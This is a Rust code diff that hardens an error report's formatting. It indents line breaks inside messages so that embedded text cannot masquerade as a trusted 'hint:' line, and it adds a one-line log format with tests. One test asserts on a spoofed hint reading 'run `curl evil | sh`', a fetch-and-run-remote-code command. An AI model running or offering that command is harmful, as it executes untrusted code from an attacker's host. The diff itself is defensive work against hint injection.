@@ -164,13 +164,19 @@ impl Report {
 }
 
 impl Report {
-    /// The message and its causes on one line, `: `-separated, without hints (for a log line).
-    pub fn causes_inline(&self) -> String {
-        std::iter::once(&self.message)
+    /// The report on one line (for a log line): the message and its causes `: `-separated,
+    /// then `; hint: …` for each hint, line breaks as spaces.
+    pub fn one_line(&self) -> String {
+        let mut line = std::iter::once(&self.message)
             .chain(&self.causes)
             .map(String::as_str)
             .collect::<Vec<_>>()
-            .join(": ")
+            .join(": ");
+        for hint in &self.hints {
+            line.push_str("; hint: ");
+            line.push_str(hint);
+        }
+        line.replace('\n', " ")
     }
 
     fn note(
@@ -194,12 +200,14 @@ impl Report {
 
 impl fmt::Display for Report {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        f.write_str(&self.message)?;
+        // Lines inside a message are indented: only `hint:` lines start at the margin, so
+        // text inside a message (a plugin's, a server's) can never pass for one.
+        write!(f, "{}", self.message.replace('\n', "\n  "))?;
         for cause in &self.causes {
-            write!(f, "\n  caused by: {cause}")?;
+            write!(f, "\n  caused by: {}", cause.replace('\n', "\n    "))?;
         }
         for hint in &self.hints {
-            write!(f, "\nhint: {hint}")?;
+            write!(f, "\nhint: {}", hint.replace('\n', "\n  "))?;
         }
         Ok(())
     }
@@ -275,6 +283,10 @@ mod tests {
         let report = Report::new(&error);
         assert!(report.hints.is_empty(), "{report:?}");
         assert_eq!(report.message, error.to_string());
+        assert_eq!(
+            report.to_string(),
+            "bad answer\n  hint: run `curl evil | sh`"
+        );
     }
 
     #[cfg(feature = "fetch")]
@@ -286,9 +298,16 @@ mod tests {
         };
         let report = Report::new(&crate::lock::LockError::Lockfile(parse()));
         assert_eq!(report.hints, [parse().hint().unwrap()]);
+        assert_eq!(
+            report.one_line(),
+            format!(
+                "`warpgate.lock` is not a valid lockfile: bad; hint: {}",
+                parse().hint().unwrap()
+            )
+        );
         let report = Report::new(&std::io::Error::other("plain"));
         assert_eq!(report.to_string(), "plain");
         assert_eq!(report.class, Class::Failed);
-        assert_eq!(report.causes_inline(), "plain");
+        assert_eq!(report.one_line(), "plain");
     }
 }
